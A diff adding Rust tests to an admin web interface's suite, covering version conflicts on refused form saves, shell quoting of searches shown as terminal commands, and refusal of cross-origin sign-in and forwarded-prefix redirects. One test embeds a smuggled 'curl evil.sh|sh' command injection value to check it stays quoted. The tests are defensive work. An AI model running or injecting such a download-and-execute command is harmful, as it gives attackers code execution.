@@ -428,6 +428,69 @@ async fn a_form_whose_body_stops_arriving_gets_408_within_the_request_timeout() 
 }
 
 #[tokio::test]
+async fn a_refused_save_keeps_the_version_it_was_based_on() {
+    let s = TestServer::start().await;
+    let c = s.customer(json!({ "name": "Loaded" })).await;
+    let id = c["id"].as_str().unwrap();
+    let b = Browser::sign_in(&s, &s.key).await;
+    let page = b.get(&format!("/admin/customers/{id}")).await;
+    let etag = s.get(&format!("/api/customers/{id}")).await.header("etag").unwrap().to_owned();
+    s.patch(&format!("/api/customers/{id}"), json!({ "name": "Theirs" })).await.expect(200);
+    // A bad email is refused before the version is compared.
+    let path = format!("/admin/customers/{id}");
+    let form = |email: &'static str, tag: &str, token: &str| {
+        vec![("name".to_owned(), "Mine".to_owned()), ("was_name".into(), "Loaded".into()), ("email".into(), email.into()),
+             ("was_email".into(), c["email"].as_str().unwrap().into()), ("etag".into(), tag.into()), ("_csrf".into(), token.into())]
+    };
+    let send = |f: Vec<(String, String)>| {
+        let pairs: Vec<(&str, &str)> = f.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
+        let body = serde_urlencoded::to_string(&pairs).unwrap();
+        b.client.post(format!("{}{path}", s.url)).header("cookie", b.cookie.clone().unwrap()).header("content-type", "application/x-www-form-urlencoded").body(body).send()
+    };
+    let refused = send(form("not-an-email", &etag, &page.csrf())).await.unwrap();
+    assert_eq!(refused.status(), StatusCode::BAD_REQUEST);
+    let html = refused.text().await.unwrap();
+    // The form it answers with is still based on the version first loaded.
+    let kept = html.split("name=\"etag\" value=\"").nth(1).unwrap().split('"').next().unwrap().replace("&#34;", "\"");
+    assert_eq!(kept, etag);
+    assert!(html.contains("name=\"was_name\" value=\"Loaded\""), "{html}");
+    let again = send(form("fixed@example.com", &kept, &page.csrf())).await.unwrap();
+    assert_eq!(again.status(), StatusCode::CONFLICT, "their change must not be overwritten");
+    assert_eq!(s.get(&format!("/api/customers/{id}")).await.body["name"], "Theirs");
+    // A garbled version is a 400, not a 500.
+    let garbled = send(form("fixed@example.com", "\u{1}", &page.csrf())).await.unwrap();
+    assert_eq!(garbled.status(), StatusCode::BAD_REQUEST);
+    s.stop().await;
+}
+
+#[tokio::test]
+async fn terminal_equivalents_quote_what_people_typed() {
+    let s = TestServer::start().await;
+    let b = Browser::sign_in(&s, &s.key).await;
+    let p = b.get("/admin/customers?q=%00%27%3Bcurl%20evil.sh%7Csh%3B%27").await;
+    // The command as the page shows it, read back as a shell reads it: one
+    // argument, the typed text (without the NUL no argument can hold).
+    let line = p.html.split("<pre><code>novabilling customers list").nth(1).unwrap().split("</code>").next().unwrap();
+    let line = line.replace("&#39;", "'").replace("&#34;", "\"").replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">");
+    let args = shlex::split(&line).expect("a line a shell can read");
+    assert_eq!(args, ["--search", "';curl evil.sh|sh;'"]);
+    s.stop().await;
+}
+
+#[tokio::test]
+async fn another_site_cannot_sign_a_visitor_in_or_move_the_redirects() {
+    let s = TestServer::start().await;
+    let b = Browser::new(&s);
+    let p = b.send(Method::POST, "/admin/signin", Some(&[("key", &s.key)]), &[("origin", "https://evil.example")]).await;
+    assert_eq!(p.status, StatusCode::UNAUTHORIZED);
+    let ok = b.send(Method::POST, "/admin/signin", Some(&[("key", &s.key)]), &[("origin", &s.url)]).await;
+    assert_eq!(ok.status, StatusCode::SEE_OTHER);
+    let p = b.send(Method::GET, "/admin/customers", None, &[("x-forwarded-prefix", "//evil.example")]).await;
+    assert_eq!(p.location, "/admin/signin");
+    s.stop().await;
+}
+
+#[tokio::test]
 async fn no_admin_turns_the_page_off() {
     let s = TestServer::start_with(|o| o.admin = false).await;
     assert_eq!(Browser::new(&s).get("/admin/signin").await.status, StatusCode::NOT_FOUND);
